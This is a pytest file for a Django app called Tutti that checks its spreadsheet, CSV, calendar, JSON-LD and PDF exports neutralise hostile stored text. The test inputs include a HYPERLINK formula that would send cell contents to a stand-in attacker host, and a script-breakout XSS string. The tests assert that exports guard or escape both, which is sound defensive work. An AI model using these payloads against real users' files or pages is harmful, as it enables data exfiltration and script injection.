"""Every file Tutti writes is safe for any text that can reach it (issue 10, items 1 and 2).

Text is stored here straight through the ORM, as the school register, old data or a bug could
store it, to prove that the writers do not depend on the forms' rule.
"""

import csv
import io
import json
import re
from pathlib import Path

import pytest
from icalendar import Calendar
from openpyxl import load_workbook
from pypdf import PdfReader

from tutti.directory.tests.factories import OrganisationFactory, SchoolFactory
from tutti.events.tests.factories import BookingFactory, EventFactory
from tutti.participation.models import Ensemble, SubmissionStatus
from tutti.participation.tests.factories import EnsembleFactory, SubmissionFactory, WcetFactory
from tutti.participation.tests.test_collections import YEAR
from tutti.participation.tokens import return_link_path

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
# Old data can hold any of these but NUL, which PostgreSQL never stores.
CONTROLS = "".join(chr(c) for c in range(1, 32) if chr(c) not in "\t\n\r") + "\x7f\x85"
HOSTILE = f"Bell{CONTROLS} Ringer"
ROOT = Path(__file__).resolve().parents[3]

# Every module that writes a spreadsheet, and the test that proves it safe: a test below, or
# "<test file>::<test>" in the app's own tests.
WRITERS = {
    "tutti/events/exports.py": "test_attendee_exports",
    "tutti/participation/views/exports.py": "test_data_return_exports",
    "tutti/participation/returns.py": "test_data_return_exports",
    "tutti/core/spreadsheets.py": "test_the_streamed_workbook",
    "tutti/participation/spreadsheet.py": "test_the_partner_template",
    "tutti/programmes/exports.py": "test_the_funders_report",
    "tutti/loans/exports.py": (
        "tutti/loans/tests/test_views.py::test_the_charges_export_neutralises_formulas"
    ),
    # The import template: fixed headings and an example row, nothing a person typed.
    "tutti/loans/views.py": "test_the_instrument_import_template",
    "tutti/cpd/exports.py": (
        "tutti/cpd/tests/test_networks.py::test_staff_reject_with_a_reason_and_approve_and_export"
    ),
}


def _test_exists(reference: str) -> bool:
    if "::" not in reference:
        return reference in globals()
    path, name = reference.split("::")
    return f"def {name}(" in (ROOT / path).read_text(encoding="utf-8")


# A writer makes a workbook or a CSV writer, or is the class that writes a workbook itself.
WRITING = re.compile(r"csv\.writer\(|Workbook\(|class \w+Workbook\b")


def test_every_spreadsheet_writer_is_tested_here():
    found = {
        str(path.relative_to(ROOT))
        for path in (ROOT / "tutti").rglob("*.py")
        if "tests" not in path.parts and WRITING.search(path.read_text(encoding="utf-8"))
    }
    assert found == set(WRITERS)
    assert [ref for ref in WRITERS.values() if not _test_exists(ref)] == []


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+44 1380 000000", "'+44 1380 000000"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (f"\x07{FORMULA}", f"'{FORMULA}"),
        (HOSTILE, "Bell Ringer"),
        ("Two\nlines", "Two\nlines"),
        ("Ordinary", "Ordinary"),
    ],
)
def test_cell_text(value, written):
    from tutti.core.spreadsheets import cell_text, cell_value

    assert cell_text(value) == written
    assert cell_value(3) == 3


def test_the_streamed_workbook():
    from tutti.core.spreadsheets import StreamedWorkbook

    book = StreamedWorkbook()
    hostile = [FORMULA, HOSTILE, "\r=1", "<b>&amp;</b>", "  spaced  ", "-3", "Two\nlines"]
    book.add_sheet("Text", [hostile, [None, 3, 2.5, True, ""]], widths=[12, 30], freeze_header=True)
    book.add_sheet("Empty", [])
    rows = _workbook_cells(book.save())
    _formula_free(rows)
    expected = [f"'{FORMULA}", "Bell Ringer", "'\r=1", "<b>&amp;</b>", "  spaced  ", "'-3"]
    written = [value for value in rows[0] if value is not None]
    assert written == [*expected, "Two\nlines", 3, 2.5, True]
    read = load_workbook(io.BytesIO(book.save()))
    assert read.sheetnames == ["Text", "Empty"]
    text = read["Text"]
    assert text.freeze_panes == "A2"
    assert (text.column_dimensions["A"].width, text.column_dimensions["B"].width) == (12, 30)
    assert text["A2"].value is None and text["B2"].data_type == "n"
    assert text["E2"].value is None
    assert all(cell.data_type == "s" for cell in text[1])
    with pytest.raises(TypeError):
        book.add_sheet("Objects", [[object()]])


def test_unguard_takes_off_only_the_guard():
    from tutti.core.spreadsheets import cell_text, unguard

    assert unguard(cell_text(FORMULA)) == FORMULA
    assert unguard("'tis the season") == "'tis the season"


def _formula_free(rows):
    for row in rows:
        for value in row:
            if isinstance(value, str):
                assert not value.startswith(("=", "+", "-", "@")), value
                assert not re.search(f"[{re.escape(CONTROLS)}]", value), value


def _workbook_cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    return [[c.value for c in cells]]


def test_attendee_exports(client_for, world):
    event = EventFactory(hub=world.hub, cluster=world.cluster)
    BookingFactory(event=event, name=HOSTILE, email="bell@example.org", organisation_name=FORMULA)
    client = client_for("staff")
    base = f"/wiltshire/manage/events/{event.pk}"
    xlsx = client.get(f"{base}/attendees.xlsx")
    assert xlsx.status_code == 200
    rows = _workbook_cells(xlsx.content)
    _formula_free(rows)
    assert "Bell Ringer" in rows[0] and f"'{FORMULA}" in rows[0]
    response = client.get(f"{base}/attendees.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    _formula_free(rows)
    assert ["Bell Ringer", "bell@example.org", f"'{FORMULA}"] == rows[1][:3]


def test_data_return_exports(client_for, world):
    school = SchoolFactory(local_authority=world.la, name=f"{FORMULA}{CONTROLS}", urn=126999)
    partner = OrganisationFactory(name=HOSTILE, hub=world.hub)
    WcetFactory(hub=world.hub, school=school, partner=partner, instruments=FORMULA)
    world.hub.name = f"-{HOSTILE}"
    world.hub.save(update_fields=["name"])
    client = client_for("staff")
    xlsx = client.get("/wiltshire/manage/participation/return.xlsx?year=2025")
    assert xlsx.status_code == 200
    rows = _workbook_cells(xlsx.content)
    _formula_free(rows)
    assert f"'{FORMULA}" in rows[0] and "Bell Ringer" in rows[0]
    response = client.get("/wiltshire/manage/participation/return.csv?year=2025")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    _formula_free(rows)
    assert any(row[1] == f"'{FORMULA}" for row in rows)


def test_the_partner_template(client, world):
    world.partner.name = HOSTILE
    world.partner.save(update_fields=["name"])
    EnsembleFactory(hub=world.hub, partner=world.partner, year=YEAR - 1, name=FORMULA)
    EnsembleFactory(hub=world.hub, partner=world.partner, year=YEAR - 1, name=f"Choir{CONTROLS}")
    submission = SubmissionFactory(
        collection__hub=world.hub, collection__year=YEAR, partner=world.partner
    )
    link = return_link_path(hub=world.hub, submission_id=submission.pk)
    template = client.get(f"{link}template.xlsx")
    assert template.status_code == 200
    rows = _workbook_cells(template.content)
    _formula_free(rows)
    assert f"'{FORMULA}" in rows[0] and "Choir" in rows[0]
    # Sent back as it is, last year's names come back as they were typed (less the controls).
    file = io.BytesIO(template.content)
    file.name = "return.xlsx"
    assert client.post(link, {"file": file}).status_code == 302
    submission.refresh_from_db()
    assert submission.status == SubmissionStatus.SUBMITTED
    names = set(Ensemble.objects.filter(year=YEAR).values_list("name", flat=True))
    assert names == {FORMULA, "Choir"}


# Calendars, JSON-LD and the PDF --------------------------------------------------------------


def test_an_event_with_any_title_has_a_calendar_file(client, world):
    title = f"Bell{CONTROLS}\nRinger; evening, with \\ backslash"
    event = EventFactory(hub=world.hub, title=title, summary=f"Line one\r\nLine two{CONTROLS}")
    event.venue = OrganisationFactory(name=f"Hall; one, two{CONTROLS}", hub=world.hub)
    event.save(update_fields=["venue"])
    for url in (f"/wiltshire/whats-on/{event.pk}/event.ics", "/wiltshire/whats-on/feed.ics"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert not re.search(f"[{re.escape(CONTROLS)}]".encode(), response.content)
        calendar = Calendar.from_ical(response.content)
        entry = calendar.walk("VEVENT")[0]
        assert str(entry["SUMMARY"]) == "Bell\nRinger; evening, with \\ backslash"
        assert str(entry["DESCRIPTION"]).startswith("Line one\nLine two\n")
        assert str(entry["LOCATION"]).startswith("Hall; one, two")
    calendar = Calendar.from_ical(client.get(f"/wiltshire/whats-on/{event.pk}/event.ics").content)
    name = calendar["X-WR-CALNAME"]
    assert b"Bell\\nRinger\\; evening\\, with \\\\ backslash" in name.to_ical()


def test_json_ld_is_safe_for_any_title(client, world):
    title = "</script><script>alert(1)</script>\u2028\u2029 & more"
    event = EventFactory(hub=world.hub, title=title)
    html = client.get(f"/wiltshire/whats-on/{event.pk}/").content.decode()
    block = re.search(r'<script type="application/ld\+json">(.*?)</script>', html, re.S)
    assert block is not None
    assert "\u2028" not in block.group(1) and "\u2029" not in block.group(1)
    assert "<" not in block.group(1)
    assert json.loads(block.group(1))["name"] == title


def test_the_pdf_report_is_made_whatever_the_names(client_for, world):
    SchoolFactory(local_authority=world.la, name=f"Pewsey{CONTROLS} Primary", pupils=180)
    world.hub.name = f"Wiltshire{CONTROLS} Music"
    world.hub.save(update_fields=["name"])
    response = client_for("staff").get("/wiltshire/manage/provision/report.pdf")
    assert response.status_code == 200
    text = "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(response.content)).pages)
    assert "Pewsey Primary" in text


def test_the_funders_report(client_for, world):
    from tutti.programmes.models import Programme
    from tutti.programmes.tests.factories import matrix_programme

    programme = matrix_programme(world)
    Programme.objects.filter(pk=programme.pk).update(name=FORMULA, funder=HOSTILE)
    response = client_for("admin").get(f"/programmes/{programme.slug}/manage/funder-report.xlsx")
    assert response.status_code == 200
    cells = [
        c.value
        for sheet in load_workbook(io.BytesIO(response.content))
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str)
    ]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
    assert not any(ch in value for value in cells for ch in CONTROLS)


def test_the_instrument_import_template(client_for, world):
    import csv

    response = client_for("staff").get("/wiltshire/manage/loans/instruments/template.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows and all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
